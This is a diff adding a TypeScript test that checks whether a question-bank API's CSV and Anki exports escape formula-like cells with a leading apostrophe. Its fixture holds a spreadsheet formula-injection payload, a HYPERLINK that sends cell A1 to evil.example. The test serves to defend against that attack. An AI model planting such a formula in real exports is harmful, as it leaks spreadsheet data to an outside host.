@@ -5,6 +5,7 @@ import { testDialects } from "../../test/test-database";
 import { startTestServer, type TestServer } from "../../test/test-server";
 import { parseDelimited } from "./delimited-text.test-util";
 import { loadQuestionBank } from "./question-bank";
+import { syncQuestionBank } from "./repository";
 
 const bank = loadQuestionBank();
 const frequencyOf = (id: string) => bank.find((entry) => entry.id === id)?.frequency ?? "occasional";
@@ -96,5 +97,36 @@ describe.each(testDialects)("questions API on %s", (kind) => {
         entry.answer,
       ]),
     );
+  });
+});
+
+describe.each(testDialects)("question exports with formula-like text on %s", (kind) => {
+  let server: TestServer;
+  let user: TestUser;
+  const formulaQuestion = {
+    ...(bank[0] as (typeof bank)[number]),
+    id: "zz-formula",
+    question: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    answer: "-5% a year: margins fall, and the multiple contracts.",
+  };
+  beforeAll(async () => {
+    server = await startTestServer(kind);
+    await syncQuestionBank(server.database.db, [...bank, formulaQuestion]);
+    user = await signUpUser(server);
+  });
+  afterAll(async () => {
+    await server.close();
+  });
+
+  it("makes a cell that starts like a formula text, in the CSV and in the Anki file", async () => {
+    const csv = await user.client.get("/api/questions/export?format=csv");
+    const csvRow = parseDelimited(csv.text, ",", "\r\n").find((row) => row[0] === "zz-formula");
+    expect(csvRow?.slice(4)).toEqual([`'${formulaQuestion.question}`, `'${formulaQuestion.answer}`]);
+    const anki = await user.client.get("/api/questions/export?format=anki");
+    const ankiLine = anki.text.split("\n").find((line) => line.includes("evil.example")) ?? "";
+    expect(parseDelimited(`${ankiLine}\n`, "\t", "\n")[0]?.slice(0, 2)).toEqual([
+      `'${formulaQuestion.question}`,
+      `'${formulaQuestion.answer}`,
+    ]);
   });
 });
